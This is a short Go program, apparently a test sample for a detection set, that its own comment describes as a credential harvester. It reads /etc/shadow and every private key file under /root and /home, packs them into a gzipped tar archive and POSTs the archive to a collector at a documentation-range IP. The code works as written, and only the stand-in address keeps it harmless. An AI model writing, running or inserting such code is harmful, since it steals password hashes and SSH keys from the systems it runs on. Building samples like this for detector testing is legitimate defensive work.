// Wild-set stand-in: a credential harvester (harmless: the image's own planted files,
// documentation address, one upload). Reads /etc/shadow and every private key under /root and
// /home, packs them into a gzip'd tar in memory and POSTs it to a collector by IP.
package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

func main() {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	add := func(path string) {
		data, err := os.ReadFile(path)
		if err != nil {
			return
		}
		_ = tw.WriteHeader(&tar.Header{Name: strings.TrimPrefix(path, "/"), Mode: 0o600, Size: int64(len(data))})
		_, _ = tw.Write(data)
	}
	add("/etc/shadow")
	for _, root := range []string{"/root", "/home"} {
		_ = filepath.Walk(root, func(path string, info os.FileInfo, err error) error {
			if err != nil || info.IsDir() || info.Size() > 64*1024 {
				return nil
			}
			base := filepath.Base(path)
			if strings.HasPrefix(base, "id_") && !strings.HasSuffix(base, ".pub") || strings.HasSuffix(base, ".pem") {
				add(path)
			}
			return nil
		})
	}
	_ = tw.Close()
	_ = zw.Close()
	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Post("http://203.0.113.61:8080/u/"+"k", "application/octet-stream", &buf)
	if err == nil {
		resp.Body.Close()
	}
}
